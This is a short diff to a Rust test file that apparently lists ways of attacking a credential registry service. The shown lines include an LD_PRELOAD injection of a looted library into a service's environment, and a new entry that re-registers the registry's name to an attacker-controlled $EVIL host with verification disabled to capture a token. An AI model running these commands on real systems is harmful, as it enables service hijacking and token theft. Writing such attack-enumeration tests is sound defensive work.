@@ -232,6 +232,11 @@ const WAYS: &[Way] = &[
         "change the service's environment",
         "systemctl set-environment LD_PRELOAD=$LOOT/x.so; systemctl edit regauthd.service </dev/null; systemctl restart regauthd",
     ),
+    // The last one, since the registry is gone after it.
+    succeeds(
+        "put another host behind the registry's name, and wait for a token",
+        "ctl remove-registry corp && echo x | ctl add-registry corp --token-stdin --no-verify --scope $EVIL && typed_token",
+    ),
 ];
 
 #[test]
